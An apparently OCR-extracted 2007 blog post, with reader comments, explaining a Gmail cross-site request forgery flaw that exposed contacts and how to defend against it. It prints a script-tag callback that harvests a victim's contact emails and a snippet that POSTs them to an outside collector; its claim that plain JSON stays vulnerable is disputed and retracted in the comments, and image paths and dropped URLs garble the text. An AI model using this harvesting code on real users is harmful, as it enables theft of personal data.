Monday, January 1st, 2007

Gmail CSRF Security Flaw

Category: DWR, Editorial

There is a lot of chatter regarding a CSRF security flaw in Gmail.

CSRF attacks are Cross Site Request Forgery attacks, which are cousins of XSS, but different.

Joe Walker of DWR has written a detailed account of CSRF and how to avoid exposing your applications to them.

Anatomy of the Gmail Attack

If you were logged onto GMail then visiting this page will show you all your GMail contacts. How does it work?

The attack uses script tags, and just assumes that you are logged-on. Since most GMail users are permanently logged on, this isn’t a huge problem.

There is a Google URL that returns some script containing your contacts:

The page will look like this:1. google ({
  2.   Success: true,
  3.   Errors: [],
  4.   Body: {
  5.     AuthToken: {
  6.       Value: '********'
  7.     },
  8.     Contacts: [
  9.       {
  10.         Id: '***',
  11.         Email: 'users at',
  12.         Affinity: ***,
  13.         Groups: [
  14.           {
  15.             id: '^Freq',
  16.             value: 'users at'
  17.           }
  18.         ],
  19.         Addressess: [],
  20.         Phoness: [],
  21.         Imss: []
  22.       },
  23.     // Lots more contacts here
  24.     ]
  25.   }
  26. })So we’re calling a function “google()” and passing it a data structure that includes all your contacts. So all we need to do is to do something with this data. The page I linked-to earlier creates a list from it using code like this:

  1. <script type="text/javascript">
  2. function google(data){
  3.     var emails, i;
  4.     for (i = 0; i < data.Body.Contacts.length; i++) {
  5.        mails += "<li>" + data.Body.Contacts[i].Email + "";
  6.     }
  7.     document.write("<ol>" + emails + "</ol>");
  8. }9. </script>
  11. <script type="text/javascript" src="">
  12. </script>

But it would be just as easy to post the list of addresses off to some spam address catcher service:

  1. <script type="text/javascript">
  2. function google(data){
  3.     var body, i;
  4.     for (i = 0; i < data.Body.Contacts.length; i++) {
  5.        body +=data.Body.Contacts[i].Email + "\n";
  6.    }
  7.    var xhr = new ActiveXObject("Microsoft.XMLHTTP");
  8."POST", "");
  9.    xhr.send(body);
  10. }
  11. </script>

How to Protect Your Server

There are 2 known solutions to CSRF attacks: secret hidden fields and scripted cookies.

Things that wont protect you:

  • Switching to POST and denying GET: Forms can be trivially altered with DOM manipulation to forge POST requests.
  • Checking the referrer field: thereferrer field is open to manipulation and it is sometimes not sent by browsers. So you are left with a choice between allowing no referrer (an attacker can get around this) and denying no referrer (breaks many innocent users).
  • JSON: Removing the function call in the GMail example would mean we would have to use XHR rather then just a simple Script Tag. The door is still wide open.

Secret Hidden Fields

If all your sensitive URLs contain some secret shipped with the page, then the cross-domain rules in the browser will stop an attacker from discovering the secret, so the server can distinguishbetween submissions that come from pages supplied by the server (which are safe).

This technique is good for the “Web 1.0” situations which are light on scripting. It is fairly complex to setup because it requires the server to keep a track of the secret, and to manipulate all forms to contain a hidden field.

Double Submit the Cookie

The CSRF attack works by subverting what the browser will do with the cookie.  Ideally, your cookies would be totally unavailable to anyone outside of your domain. This attack works because XMLHttpRequest in some page can use the cookies of some foreign domain when posting to that foreign domain. However the script can not read the cookie directly due to the cross-domain rules, so a slight modification of the hidden field solution is to read the session cookie using JavaScript and then adding to URLs, forms or the body of a POST request, and then checking in the server that the session cookie value that the browser sends in the header (which is subvertable) is the same as the session cookie in the request (this is not subvertable in the same way).

If you are using Ajax or a significant amount of scripting then this solution is a simple fix once solution.

Use a Library

Specifically – use DWR. If you are using DWR version 2 then this CSRF protection comes for free. DWR implements the double cookie submission patterntransparently.

There is some talk on ZDNet and it appears that Digg may have the same issue.

Posted by Dion Almaer at 3:08 pm

4.4 rating from 61 votes


Comments feed TrackBack URI

Does this actually work? All I get is this:

google ({
Success: false,
Errors: []

Comment by Hans Duedal — January 1, 2007

This exploit will only work on Internet Explorer.
Mozilla/Firefox will prevent an XmlHttpRequest to another domain. Try it for yourself and see.

Comment by only IE — January 1, 2007

To be more precise, if Google only returned JSON instead of that stupid function syntax “google({…}) ” then only IE could be exploited. IE is the only browser that allows XHR to call other domains. Mozilla/Firefox will not allow it.

Comment by only IE — January 1, 2007

Google have now fixed the problem properly – hence the Success:false

Comment by Joe Walker — January 1, 2007

I don’t get the bit about using XHR. The same origin policy prevents the XHR connection to GMail from some random host, no?

Comment by Martin — January 1, 2007

The example urls now return an error JSON response. Has anyone figured out what the security check is, that was added?

Comment by Julien Couvreur — January 1, 2007Martin, the XHR bit was in reference to the incorrect blog post in the ajaxian article above that claimed that Google would still be at risk even if they dropped the google() function call and just sent JSON instead. This is simply not the case due to the same origin policy.

Comment by Zorba — January 1, 2007

The XHR comment by the JSON thing is wrong – I wastyping before I’d thought about it properly. I stand by the assertion that JSON isn’t always a fix however. JSON is a fix if you are doing something read-only. I’ve updated the blog post.

Comment by Joe Walker — January 2, 2007

Dear Ajaxian Editor,

Could you please remove the following incorrect information from the article overview above?

“JSON: Removing the function call in the GMail example would mean we would have to use XHR rather then just a simple Script Tag. The door is still wide open.”

The original website from which it was copied was wrong, and its text has been updated to reflect that any HTTP GET that returns raw JSON are 100%fine and is not subject to Cross Site Request Forgery attacks. If your server’s HTTP GET does somehting stupid like modify data – then you are not obeying the HTTP spec for GETs to be read-only actions, and its your own fault if something goes wrong. In any event, this Google bug was never a JSON problem. It could have happenedwith any other data format.

Comment by Note to Ajaxian Editor — January 2, 2007

Leave a comment

You must be logged in to post a comment.